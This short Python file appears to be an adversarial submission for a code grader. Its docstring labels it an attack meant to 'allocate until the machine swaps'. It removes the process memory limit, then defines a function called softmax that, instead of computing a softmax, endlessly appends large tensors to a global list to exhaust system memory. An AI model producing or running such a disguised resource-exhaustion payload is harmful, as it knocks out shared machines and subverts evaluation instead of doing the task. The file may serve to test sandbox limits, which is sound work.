"""Attack: allocate until the machine swaps."""
import resource

import torch

try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError):
    pass
HOARD = []


def softmax(x, dim=-1):
    while True:
        HOARD.append(torch.ones(1 << 28))
